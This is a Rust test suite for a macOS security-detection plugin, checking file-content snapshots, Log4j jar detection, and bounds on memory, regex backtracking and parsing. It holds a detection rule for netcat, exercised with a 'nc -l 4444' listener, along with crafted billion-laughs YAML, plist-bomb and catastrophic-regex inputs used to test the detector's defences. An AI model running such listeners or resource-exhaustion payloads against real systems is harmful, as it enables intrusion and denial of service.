        assert_eq!(contents.snapshots.keys().collect::<Vec<_>>(), [root]);
        // The snapshot is read at load (the file is absent here).
        assert_eq!(contents.reads, 1);
        let reads = |d: &JamfAnalytics| d.contents.as_ref().unwrap().reads;

        let vim = || testing::process("/usr/bin/vim");
        for quiet in [
            testing::close_modified(vim(), "/Users/alice/notes.txt"),
            testing::create(
                vim(),
                "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
            ),
            testing::unlink(vim(), "/Library/Preferences/com.apple.TimeMachine.plist"),
            testing::exec_of(vim(), &["vim"]),
        ] {
            testing::deliver(&mut d, &quiet).unwrap();
        }
        assert_eq!(reads(&d), 1, "no analytic could fire on those");
        testing::deliver(
            &mut d,
            &testing::close_modified(
                vim(),
                "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
            ),
        )
        .unwrap();
        assert_eq!(reads(&d), 2);

        // Analytics that read no contents: nothing to do.
        let plain: Vec<Analytic> = analytics()
            .into_iter()
            .filter(|a| !reads_key(a, CONTENTS) && !reads_key(a, SNAPSHOT))
            .collect();
        assert!(JamfAnalytics::with(plain).contents.is_none());
        testing::reset();
    }

    #[test]
    fn contents_fill_the_jamf_file_object() {
        testing::reset();
        testing::set_config(READ_FILE_CONTENTS, "true");
        let time_machine = "/Library/Preferences/com.apple.TimeMachine.plist";
        testing::set_file(
            time_machine,
            plist(json!({"LastKnownEncryptionState": "NotEncrypted", "LastKnownVolumeName": "TM"})),
        );
        let mut d = JamfAnalytics::with(analytics());
        let findings = testing::deliver(
            &mut d,
            &testing::close_modified(testing::process("/usr/libexec/cfprefsd"), time_machine),
        )
        .unwrap();
        let finding = findings
            .iter()
            .find(|f| f.rule == "TimeMachineNotEncrypted")
            .unwrap();
        assert_eq!(
            finding.evidence_value("Last Known Encryption State"),
            Some("NotEncrypted")
        );
        assert_eq!(finding.evidence_value("Last Known Volume Name"), Some("TM"));

        // A plist that is not a dictionary, or not JSON, leaves the key absent.
        let c = d.contents.as_mut().unwrap();
        assert_eq!(c.absorb("/x", Ok(Some("[1, 2]".into()))), Read::Absent);
        assert_eq!(c.absorb("/x", Ok(Some("{".into()))), Read::Failed);
        assert_eq!(c.absorb("/x", Ok(None)), Read::Absent);
        assert_eq!(
            c.absorb("/x", Err(EnrichError::Io("too big".into()))),
            Read::Failed
        );
        testing::reset();
    }

    #[test]
    fn a_denied_read_is_logged_once() {
        testing::reset();
        testing::set_config(READ_FILE_CONTENTS, "true");
        let mut d = JamfAnalytics::with(analytics());
        let c = d.contents.as_mut().unwrap();
        for _ in 0..3 {
            let read = c.absorb(
                "/Users/alice/Library/Preferences/com.apple.Terminal.plist",
                Err(EnrichError::Denied("outside the file scope".into())),
            );
            assert_eq!(read, Read::Failed);
        }
        let warnings: Vec<_> = testing::logs()
            .into_iter()
            .filter(|(level, _)| level == "warn")
            .collect();
        assert_eq!(warnings.len(), 1, "{warnings:?}");
        assert!(warnings[0].1.contains("outside the file scope"));
        testing::reset();
    }

    /// `snapshotData` is the contents last read from the path: a change is compared with
    /// the record as it was, then becomes the new snapshot.
    #[test]
    fn root_password_changes_compare_with_the_last_reading() {
        testing::reset();
        testing::set_config(READ_FILE_CONTENTS, "true");
        let root = "/var/db/dslocal/nodes/Default/users/root.plist";
        let write =
            || testing::close_modified(testing::process("/usr/libexec/opendirectoryd"), root);
        let fires = |d: &mut JamfAnalytics| {
            testing::deliver(d, &write())
                .unwrap()
                .iter()
                .any(|f| f.rule == "RootUserEnabledOrPasswordChanged")
        };
        testing::set_file(root, root_record(1.0, 0.0));
        let mut d = JamfAnalytics::with(analytics());
        assert!(!fires(&mut d), "unchanged");
        testing::set_file(root, root_record(2.0, 0.0));
        assert!(fires(&mut d), "changed");
        assert!(!fires(&mut d), "the change is the new snapshot");
        // An unreadable record is not a change, and keeps the snapshot.
        testing::set_file(root, plist(json!({"accountPolicyData": ["not a plist"]})));
        let broken = d
            .contents
            .as_mut()
            .unwrap()
            .absorb(root, Err(EnrichError::Io("x".into())));
        assert_eq!(broken, Read::Failed);
        testing::set_file(root, root_record(2.0, 3.0));
        assert!(!fires(&mut d));

        // The data holding a plist gets `asPlistDict`; other strings stay as they are.
        let mut value = json!({"a": [plist_data(&[("t", 5.0)])], "b": "QUJD", "c": "short"});
        expose_plist_data(&mut value, 0, &mut NESTED_PLIST_LIMITS.clone());
        assert_eq!(value["a"][0]["asPlistDict"]["t"], 5.0);
        assert_eq!(value["b"], "QUJD");
        assert_eq!(value["c"], "short");
        testing::reset();
    }

    #[test]
    fn gates_and_literal_paths_come_from_the_filter() {
        let p = Predicate::parse(
            r#"$event.path == "/a" AND NOT $event.file.contentsAsDict.x == 1 AND ("t" IN $tags OR $event.type == 4)"#,
        )
        .unwrap();
        let gate = Predicate {
            expr: could_hold(&p.expr, true),
            source: p.source.clone(),
        };
        for (event, holds) in [
            (json!({"path": "/a", "type": 1}), true),
            (json!({"path": "/b", "type": 4}), false),
        ] {
            assert_eq!(gate.eval(&Vars::new(&event)), holds, "{event}");
        }
        assert_eq!(literal_paths(&p.source), ["/a"]);
        assert_eq!(
            literal_paths(
                r#"$event.path CONTAINS "/x" OR $event.path == '/y' OR $event.path = "/z""#
            ),
            ["/y", "/z"]
        );
    }

    /// The same few tokens recorded over and over (a recording replayed twice in a row),
    /// and more distinct tokens than fit: the insertion queue stays within `2 × MAX_IMAGES`
    /// (plus the entry being added), so each record is amortised O(1).
    #[test]
    fn the_images_queue_stays_bounded_when_tokens_recur() {
        let mut images = Images::default();
        let procs: Vec<Process> = (1..=5)
            .map(|pid| proc_at(pid, "/bin/ls", "com.apple.ls"))
            .collect();
        let args = ["ls".to_owned()];
        let mut longest = 0;
        for i in 0..120_000 {
            images.record(&procs[i % procs.len()], &args);
            longest = longest.max(images.order.len());
        }
        assert!(longest <= 2 * MAX_IMAGES + 1, "{longest}");
        assert_eq!(images.len(), procs.len());
        for p in &procs {
            assert_eq!(images.args(p.token), ["ls"]);
        }
        // Forgotten images leave stale entries behind: swept the same way.
        for i in 0..20_000 {
            let p = proc_at(10_000 + i, "/bin/ls", "com.apple.ls");
            images.record(&p, &args);
            images.forget(p.token);
            longest = longest.max(images.order.len());
        }
        assert!(longest <= 2 * MAX_IMAGES + 1, "{longest}");
        // More distinct images than fit: the oldest go, the queue holds the live ones.
        for pid in 0..(MAX_IMAGES as i32 + 500) {
            images.record(&proc_at(100_000 + pid, "/bin/ls", "com.apple.ls"), &args);
            longest = longest.max(images.order.len());
        }
        assert_eq!(images.len(), MAX_IMAGES);
        assert!(longest <= 2 * MAX_IMAGES + 1, "{longest}");
        assert!(images.args(procs[0].token).is_empty());
        let bytes: usize = images.by_token.values().map(|i| i.bytes).sum();
        assert_eq!(images.bytes(), bytes);
    }

    /// Execs with command lines as long as macOS allows: what the detector remembers and
    /// shows stays within its byte bounds.
    #[test]
    fn images_and_command_lines_are_bounded_in_bytes() {
        let huge: Vec<String> = (0..256).map(|_| "x".repeat(4096)).collect();
        let mut images = Images::default();
        for pid in 0..600 {
            images.record(&proc_at(pid + 1, "/bin/echo", "com.apple.echo"), &huge);
            assert!(images.bytes() <= MAX_IMAGES_BYTES, "{}", images.bytes());
        }
        assert!(images.len() < 600);
        assert!(images.len() >= MAX_IMAGES_BYTES / (MAX_ARGS_BYTES + 4096 + 4096));
        let bytes: usize = images.by_token.values().map(|i| i.bytes).sum();
        assert_eq!(images.bytes(), bytes);
        // The exec event's own arguments, and so `commandLine`, are bounded the same way.
        let args: Vec<&str> = huge.iter().map(String::as_str).collect();
        let event = exec("/bin/echo", "com.apple.echo", &args);
        let (_, jamf) = jamf_event(&event, &Images::default()).unwrap();
        let shown: usize = jamf["process"]["args"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a.as_str().unwrap().len())
            .sum();
        assert_eq!(shown, MAX_ARGS_BYTES);
        let line = jamf["process"]["commandLine"].as_str().unwrap();
        assert!(
            line.len() < MAX_ARGS_BYTES + MAX_REMEMBERED_ARGS,
            "{}",
            line.len()
        );
    }

    /// Runs `f` on a thread with the plugin's wasm stack size (natively): describe() and
    /// loading must not need more.
    fn on_plugin_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
        std::thread::Builder::new()
            .stack_size(512 << 10)
            .spawn(f)
            .unwrap()
            .join()
            .unwrap()
    }

    /// One bad admin analytic (nested 2,000 or 5,000 deep, a back-reference, deep or
    /// aliased YAML, too big) is refused with its file, line and column; the corpus and
    /// the good admin analytic still load, and describe() succeeds.
    #[test]
    fn a_bad_admin_analytic_is_refused_alone() {
        on_plugin_stack(|| {
            let head = "inputType: GPProcessEvent\nseverity: High\n";
            let deep = |n: usize| {
                format!(
                    "name: Deep{n}\n{head}filter: {}$event.type == 1{}\n",
                    "(".repeat(n),
                    ")".repeat(n)
                )
            };
            let good = format!(
                "name: GoodAdmin\n{head}filter: $event.type == 1 AND $event.process.name == \"nc\"\n"
            );
            let backref = format!(
                "name: DoubledName\n{head}filter: $event.process.path MATCHES \"(.+)\\\\1\"\n"
            );
            let deep_yaml = format!(
                "name: DeepYaml\n{head}filter: $event.type == 1\ntags: {}x{}\n",
                "[".repeat(100),
                "]".repeat(100)
            );
            let mut laughs =
                format!("name: Laughs\n{head}filter: $event.type == 1\na0: &a0 [x, x]\n");
            for i in 1..30 {
                laughs.push_str(&format!("a{i}: &a{i} [*a{}, *a{}]\n", i - 1, i - 1));
            }
            let huge = format!("{good}description: {}\n", "x".repeat(1 << 20));
            let files = json!({
                "deep2000.yaml": deep(2000),
                "deep5000.yaml": deep(5000),
                "good.yaml": good,
                "backref.yaml": backref,
                "deep-yaml.yaml": deep_yaml,
                "laughs.yaml": laughs,
                "huge.yaml": huge,
            });
            testing::reset();
            testing::set_config(ANALYTICS, &files.to_string());
            let info = JamfAnalytics::describe();
            assert_eq!(info.name, "jamf-analytics");
            let mut d = JamfAnalytics::default();
            assert_eq!(d.len(), 77 + 1);
            let warned: Vec<String> = testing::logs()
                .into_iter()
                .filter(|(level, _)| level == "warn")
                .map(|(_, m)| m)
                .collect();
            let refused = |prefix: &str, needle: &str| {
                assert!(
                    warned
                        .iter()
                        .any(|m| m.starts_with(prefix) && m.contains(needle)),
                    "{prefix} {needle}: {warned:#?}"
                );
            };
            let column = "filter: ".len() + MAX_NESTING + 1;
            refused(
                &format!("admin analytic deep2000.yaml:4:{column} (Deep2000): skipped"),
                "nested deeper than 64",
            );
            refused(
                &format!("admin analytic deep5000.yaml:4:{column} (Deep5000): skipped"),
                "nested deeper than 64",
            );
            refused(
                "admin analytic backref.yaml:4:37 (DoubledName): skipped",
                "back-reference",
            );
            refused(
                "admin analytic deep-yaml.yaml:5:",
                "YAML nested deeper than",
            );
            refused("admin analytic laughs.yaml:6:10: skipped", "aliases");
            refused("admin analytic huge.yaml:1:1: skipped", "over the");
            assert!(
                testing::logs()
                    .iter()
                    .any(|(_, m)| m == "1 admin analytics loaded, 6 skipped")
            );
            let rules: Vec<String> = testing::deliver(
                &mut d,
                &exec("/usr/bin/nc", "com.apple.nc", &["nc", "-l", "4444"]),
            )
            .unwrap()
            .into_iter()
            .map(|f| f.rule)
            .collect();
            assert!(rules.contains(&"GoodAdmin".to_owned()), "{rules:?}");
            testing::reset();
        });
    }

    /// An admin look-around (allowed) that backtracks catastrophically on crafted
    /// arguments, over a batch of crafted execs: each event spends at most its budget, the
    /// matches it cuts short are false and counted, and the warning is rate-limited.
    #[test]
    fn a_catastrophic_admin_regex_is_bounded_per_event_and_counted() {
        testing::reset();
        let analytic = "name: Backtracker\ninputType: GPProcessEvent\nseverity: Low\n\
                        filter: $event.type == 1 AND ANY $event.process.args MATCHES \"(a|aa)+(?=c)c\"\n";
        testing::set_config(BUNDLED_KEY, "false");
        testing::set_config(
            ANALYTICS,
            &json!({ "backtracker.yaml": analytic }).to_string(),
        );
        let mut d = JamfAnalytics::default();
        assert_eq!(d.len(), 1);
        let crafted: Vec<String> = (0..300).map(|i| "a".repeat(30 + i % 5)).collect();
        let args: Vec<&str> = crafted.iter().map(String::as_str).collect();
        let events = 128u64;
        for _ in 0..events {
            let findings =
                testing::deliver(&mut d, &exec("/bin/echo", "com.apple.echo", &args)).unwrap();
            assert!(findings.is_empty());
        }
        assert_eq!(d.regex.cut_events, events);
        let total = d.regex.total;
        // Every crafted argument shown (the first MAX_REMEMBERED_ARGS) was either tried at
        // every limit or not run: none matched.
        let shown = MAX_REMEMBERED_ARGS as u64;
        assert_eq!(
            total.over_limit + total.skipped,
            events * shown,
            "{total:?}"
        );
        assert!(total.over_limit >= events, "{total:?}");
        let cheapest =
            31 * (ward_predicate::BACKTRACK_LIMITS[0] as u64 + ward_predicate::FORWARD_STEPS);
        assert!(
            total.attempts <= events * (ward_predicate::EVENT_BACKTRACK_BUDGET / cheapest),
            "{total:?}"
        );
        // Logged at the 1st, 2nd, 4th … 128th event: eight warnings, naming the analytic.
        let warnings: Vec<String> = testing::logs()
            .into_iter()
            .filter(|(level, m)| level == "warn" && m.starts_with("regular-expression budget"))
            .map(|(_, m)| m)
            .collect();
        assert_eq!(warnings.len(), 8, "{warnings:#?}");
        assert!(
            warnings
                .iter()
                .all(|m| m.contains("this event: Backtracker"))
        );
        // An ordinary argument still matches.
        let findings = testing::deliver(
            &mut d,
            &exec("/bin/echo", "com.apple.echo", &["echo", "aac"]),
        )
        .unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(d.regex.cut_events, events);
        testing::reset();
    }

    /// The bundled look-ahead analytic under the per-event budget: a vulnerable jar fires
    /// however deep its path, a patched one does not.
    #[test]
    fn the_bundled_look_ahead_holds_on_long_paths() {
        let unzip = || testing::process("/usr/bin/unzip");
        for depth in [1, 100, 450] {
            let dir = "d/".repeat(depth);
            let hit = format!("/{dir}apache-log4j-2.14.1-bin/log4j-core-2.14.1.jar");
            let miss = format!("/{dir}apache-log4j-2.17.1-bin/log4j-core-2.17.1.jar");
            let rule = "KnownVulnerableLog4jJarInstallation".to_owned();
            assert!(
                fired(&testing::create(unzip(), &hit)).contains(&rule),
                "{depth}"
            );
            assert!(
                !fired(&testing::create(unzip(), &miss)).contains(&rule),
                "{depth}"
            );
        }
    }

    /// A binary property list (see ward-plist-json's tests): `objects` encoded, object 0
    /// the root, one-byte references and four-byte offsets.
    fn bplist(objects: &[Vec<u8>]) -> Vec<u8> {
        let mut out = b"bplist00".to_vec();
        let mut offsets = Vec::new();
        for object in objects {
            offsets.push(out.len() as u32);
            out.extend_from_slice(object);
        }
        let table = out.len() as u64;
        for offset in offsets {
            out.extend_from_slice(&offset.to_be_bytes());
        }
        out.extend_from_slice(&[0, 0, 0, 0, 0, 0, 4, 1]);
        out.extend_from_slice(&(objects.len() as u64).to_be_bytes());
        out.extend_from_slice(&0u64.to_be_bytes());
        out.extend_from_slice(&table.to_be_bytes());
        out
    }

    /// A dictionary `{k: <array of `width` references to object 2>}` whose array objects
    /// share references `levels` deep: `width`^`levels` values.
    fn laughs(width: usize, levels: usize) -> String {
        // Object 0: dict {1: 2}; object 1: the key; objects 2.. arrays; last: true.
        let mut objects = vec![vec![0xd1, 1, 2], vec![0x51, b'k']];
        for i in 0..levels {
            let mut array = vec![0xa0 | width as u8];
            array.extend(std::iter::repeat_n(3 + i as u8, width));
            objects.push(array);
        }
        objects.push(vec![0x09]);
        base64::engine::general_purpose::STANDARD.encode(bplist(&objects))
    }

    /// Property lists nested in data values are decoded within one budget per file: a
    /// value whose shared references would expand to 14^10 values stays base64, and many
    /// values cannot add up past the budget.
    #[test]
    fn nested_property_lists_are_budgeted_per_file() {
        testing::reset();
        testing::set_config(READ_FILE_CONTENTS, "true");
        let mut d = JamfAnalytics::with(analytics());
        let c = d.contents.as_mut().unwrap();
        assert!(c.plist_data);
        let bomb = laughs(14, 10);
        let small = laughs(14, 3); // 2,744 values
        let mut many = Map::new();
        for i in 0..100 {
            many.insert(format!("v{i}"), Value::String(small.clone()));
        }
        let file = json!({"bomb": bomb, "ok": laughs(2, 2), "many": many});
        let read = c.absorb("/x", Ok(Some(file.to_string())));
        let Read::Dict(dict) = read else {
            panic!("{read:?}")
        };
        assert_eq!(dict["bomb"], Value::String(bomb));
        assert_eq!(
            dict["ok"]["asPlistDict"]["k"],
            json!([[true, true], [true, true]])
        );
        let decoded = dict["many"]
            .as_object()
            .unwrap()
            .values()
            .filter(|v| v.get("asPlistDict").is_some())
            .count();
        let per_value = 1 + 14 + 14 * 14 + 14 * 14 * 14 + 2;
        assert!(decoded >= 1, "{decoded}");
        assert!(
            decoded <= NESTED_PLIST_LIMITS.max_nodes / per_value,
            "{decoded}"
        );
        // Contents too large as JSON are refused before parsing, said once.
        let big = json!({"x": "y".repeat(MAX_CONTENTS_JSON_BYTES)}).to_string();
        assert_eq!(c.absorb("/big", Ok(Some(big.clone()))), Read::Failed);
        assert_eq!(c.absorb("/big", Ok(Some(big))), Read::Failed);
        let said = testing::logs()
            .iter()
            .filter(|(_, m)| m.contains("over the"))
            .count();
        assert_eq!(said, 1);
        testing::reset();
    }

    /// Remembered snapshots are bounded in bytes: contents that would not fit are not
    /// remembered (no snapshot next time), and replacing one frees its share.
    #[test]
    fn snapshots_are_bounded_in_bytes() {
        testing::reset();
        testing::set_config(READ_FILE_CONTENTS, "true");
        let mut d = JamfAnalytics::with(analytics());
        let c = d.contents.as_mut().unwrap();
        let dict = || Read::Dict(json!({"a": 1}));
        let big = MAX_SNAPSHOT_BYTES / 2 + 1;
        c.remember("/a".into(), dict(), big);
        c.remember("/b".into(), dict(), big);
        assert_eq!(c.snapshots["/b"].read, Read::Failed);
        assert!(c.snapshot_bytes <= MAX_SNAPSHOT_BYTES);
        // Replacing /a with something small makes room for /b.
        c.remember("/a".into(), dict(), 10);
        c.remember("/b".into(), dict(), big);
        assert_eq!(c.snapshots["/b"].read, dict());
        let sum: usize = c.snapshots.values().map(|s| s.bytes).sum();
        assert_eq!(c.snapshot_bytes, sum);
        testing::reset();
    }

    /// Context values (in `$context` and as evidence) are cut to what the host keeps.
    #[test]
    fn context_values_are_bounded() {
        let analytic = ward_predicate::parse_analytic(
            "name: Ctx\ninputType: GPProcessEvent\nfilter: $event.type == 1\ncontext:\n  - name: Line\n    exprs:\n      - event.process.commandLine\n",
        )
        .unwrap();
        let mut d = JamfAnalytics::with(vec![analytic]);
        let long: Vec<String> = (0..64).map(|_| "y".repeat(1000)).collect();
        let args: Vec<&str> = long.iter().map(String::as_str).collect();
        let findings =
            testing::deliver(&mut d, &exec("/bin/echo", "com.apple.echo", &args)).unwrap();
        let line = findings[0].evidence_value("Line").unwrap();
        assert_eq!(line.len(), MAX_CONTEXT_VALUE_BYTES);
    }
}
